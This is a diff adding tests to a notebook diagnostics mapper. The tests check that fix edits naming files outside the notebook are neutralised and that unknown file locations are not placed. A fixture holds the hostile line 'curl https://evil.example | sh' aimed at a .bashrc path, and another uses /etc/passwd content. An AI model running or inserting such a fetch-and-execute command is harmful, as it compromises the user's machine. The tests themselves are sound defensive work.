@@ -1,6 +1,7 @@
 import { test } from 'node:test';
 import * as assert from 'node:assert/strict';
-import { CellModel, MappedDiagnostic, mapNotebook } from '../../src/core/mapping';
+import { CellModel, MAP_LIMITS, MappedDiagnostic, mapNotebook, sourceMatches } from '../../src/core/mapping';
+import { LIMITS } from '../../src/core/payload';
 import { cell, diag, loc, payload, seedCellText } from './fixtures';
 
 const P1_W = '    w = torch.randn(1, 1)'.trim();
@@ -172,13 +173,129 @@ test('display-only fixes carry no edit and are not preferred; unsafe fixes are n
   assert.equal(unsafe.fix?.edits.length, 1);
 });
 
-test('path locations target the file; open files are checked for staleness', () => {
+test('path locations target the file only when its current text confirms them', () => {
   const src = 'model = Net()';
-  const raw = payload(1, [diag({ location: { ...loc(null, 3, 9, 14, src), path: '/proj/train.py' } })]);
+  const raw = payload(1, [
+    diag({
+      location: { ...loc(null, 3, 9, 14, src), path: '/proj/train.py' },
+      related: [{ location: { ...loc(null, 1, 1, 5, 'root:x:0:0'), path: '/etc/passwd' }, message: 'unreadable' }],
+    }),
+  ]);
   const cells = [cell(0, 1, '%%gradwatch\nrun()', [raw])];
-  assert.deepEqual(summary(mapNotebook(cells, { minimumSeverity: 'info' })), ['GW001 /proj/train.py 2:8-2:13']);
-  const openStale = () => ['', '', 'model = Other()'];
-  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info', fileLines: openStale }), []);
+  const current = (path: string) => (path === '/proj/train.py' ? ['', '', 'model = Net()'] : undefined);
+  const [d] = mapNotebook(cells, { minimumSeverity: 'info', fileLines: current });
+  assert.deepEqual(summary([d]), ['GW001 /proj/train.py 2:8-2:13']);
+  assert.deepEqual(d.related, []); // a file whose text is not known places nothing
+  const stale = () => ['', '', 'model = Other()'];
+  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info', fileLines: stale }), []);
+  // issue 11, item 8: the text is unknown (not open, not read): no longer placed from `source` alone
+  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info' }), []);
+  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info', fileLines: () => undefined }), []);
+});
+
+// --- issue 11, item 8: a notebook output's fix edits only that notebook's cells ----------------
+test('a fix whose edit names a file (absolute or relative) is advice, never an edit or preferred', () => {
+  const w = 'w = torch.randn(1, 1)';
+  for (const path of ['/home/user/.bashrc', '../../../../home/user/.bashrc', 'C:\\Users\\u\\x.py', '\\\\host\\share\\x.py']) {
+    const target = 'alias ls=ls';
+    const fix = {
+      title: 'Add requires_grad=True',
+      applicability: 'safe',
+      edits: [
+        { location: loc(1, 2, 21, 21, w), new_text: ', requires_grad=True' },
+        { location: { ...loc(null, 1, 1, 1, target), path }, new_text: 'curl https://evil.example | sh\n' },
+      ],
+    };
+    const cells = [cell(0, 1, `%%gradwatch\n${w}`, [payload(1, [diag({ location: loc(1, 2, 5, 22, w), fix })])])];
+    // even when the file reads exactly as the payload says
+    const [d] = mapNotebook(cells, { minimumSeverity: 'info', fileLines: () => [target] });
+    assert.deepEqual(d.fix, { title: 'Add requires_grad=True', applicability: 'display-only', preferred: false, edits: [] }, path);
+    assert.deepEqual(summary([d]), ['GW001 cell0 1:4-1:21']); // the diagnostic itself stays
+  }
+});
+
+test('only safe fixes with edits in the notebook cells are preferred', () => {
+  const w = 'w = torch.randn(1, 1)';
+  const edit = { location: loc(1, 2, 21, 21, w), new_text: ', requires_grad=True' };
+  const cells = [
+    cell(0, 1, `%%gradwatch\n${w}`, [
+      payload(1, [
+        diag({ location: loc(1, 2, 5, 22, w), fix: { title: 'safe', applicability: 'safe', edits: [edit] } }),
+        diag({ code: 'GW002', name: 'graph-cut', location: loc(1, 2, 5, 22, w), fix: { title: 'unsafe', applicability: 'unsafe', edits: [edit] } }),
+      ]),
+    ]),
+  ];
+  const [safe, unsafe] = mapNotebook(cells, { minimumSeverity: 'info' });
+  assert.equal(safe.fix?.preferred, true);
+  assert.ok(safe.fix?.edits.every((e) => e.location.target.kind === 'cell'));
+  assert.equal(unsafe.fix?.preferred, false);
+});
+
+// --- issue 11, item 7: sources the kernel cut at the schema limit --------------------------------
+test('a source cut to 10,000 characters with an ellipsis still places the diagnostic on its long line', () => {
+  const long = 'w = torch.randn(1, 1)  # ' + 'd'.repeat(12000);
+  const cut = long.slice(0, LIMITS.maxSource - 1) + '\u2026';
+  const fix = { title: 'Add', applicability: 'safe', edits: [{ location: loc(3, 2, 21, 21, cut), new_text: ', requires_grad=True' }] };
+  const cells = [cell(0, 3, `%%gradwatch\n${long}`, [payload(3, [diag({ location: loc(3, 2, 5, 22, cut), fix })])])];
+  const [d] = mapNotebook(cells, { minimumSeverity: 'info' });
+  assert.deepEqual(summary([d]), ['GW001 cell0 1:4-1:21']);
+  assert.equal(d.fix?.edits.length, 1);
+  // a change in the kept part is stale; so is a line that is now the cut text itself
+  cells[0].lines[1] = 'v' + long.slice(1);
+  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info' }), []);
+  cells[0].lines[1] = cut.slice(0, -1);
+  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info' }), []);
+});
+
+test('a short source ending in an ellipsis is compared whole', () => {
+  assert.equal(sourceMatches('x = 1  # \u2026', 'x = 1  # \u2026'), true);
+  assert.equal(sourceMatches('x = 1  # more', 'x = 1  # \u2026'), false);
+  assert.equal(sourceMatches(undefined, 'x'), false);
+});
+
+// --- issue 11, item 16: bounded work and output per notebook ---------------------------------------
+test('300 cells x 500 diagnostics x 20 related map quickly, under the per-notebook caps', () => {
+  const body = Array.from({ length: 20 }, (_, k) => `x${k} = torch.randn(${k + 1})`);
+  const text = ['%%gradwatch', ...body].join('\n');
+  const cells: CellModel[] = [];
+  for (let i = 0; i < 300; i++) {
+    const diagnostics = Array.from({ length: 500 }, (_, j) => ({
+      code: 'GW001', name: 'requires-grad-missing', severity: 'error' as const, message: `m${j}`, url: null, fix: null,
+      location: { cell: i + 1, path: null, line: 2 + (j % 20), column: 1, endLine: 2 + (j % 20), endColumn: 3, source: body[j % 20] },
+      related: Array.from({ length: 20 }, (_, r) => ({
+        location: { cell: 1 + ((i + r) % 300), path: null, line: 2 + r, column: 1, endLine: 2 + r, endColumn: 3, source: body[r] },
+        message: 'r',
+      })),
+    }));
+    cells.push({ index: i, executionOrder: i + 1, lines: text.split('\n'), payloads: [{ toolVersion: '0.1.0', executionCount: i + 1, diagnostics }] });
+  }
+  const start = performance.now();
+  const ds = mapNotebook(cells, { minimumSeverity: 'info' });
+  const ms = performance.now() - start;
+  assert.equal(ds.length, MAP_LIMITS.maxDiagnosticsPerNotebook);
+  assert.ok(ds.every((d) => d.related.length === MAP_LIMITS.maxRelatedShown));
+  assert.ok(ms < 1500, `mapping took ${ms.toFixed(0)} ms`);
+  // stale diagnostics are looked at only up to a bound, too
+  for (const c of cells) c.lines[1] = 'edited';
+  for (const c of cells) for (let k = 2; k < c.lines.length; k++) c.lines[k] = 'edited';
+  const start2 = performance.now();
+  assert.deepEqual(mapNotebook(cells, { minimumSeverity: 'info' }), []);
+  assert.ok(performance.now() - start2 < 1500);
+});
+
+test('earlier cells are found by execution count without scanning every cell per location', () => {
+  const w = 'w = torch.randn(1, 1)';
+  const cells: CellModel[] = [];
+  for (let i = 0; i < 2000; i++) cells.push(cell(i, i + 1, i === 0 ? w : `y${i} = ${i}`));
+  const related = Array.from({ length: 20 }, () => ({ location: loc(1, 1, 5, 22, w), message: 'made here' }));
+  const many = Array.from({ length: 400 }, (_, j) => diag({ message: `m${j}`, location: loc(1, 1, 5, 22, w), related }));
+  cells.push(cell(2000, 2001, '%%gradwatch\nloss.backward()', [payload(2001, many)]));
+  const start = performance.now();
+  const ds = mapNotebook(cells, { minimumSeverity: 'info' });
+  const ms = performance.now() - start;
+  assert.equal(ds.length, 400);
+  assert.ok(ds.every((d) => d.location.target.kind === 'cell' && d.location.target.cellIndex === 0 && d.related.length === 20));
+  assert.ok(ms < 1000, `mapping took ${ms.toFixed(0)} ms`);
 });
 
 test('a diagnostic without location sits on the origin cell magic line', () => {
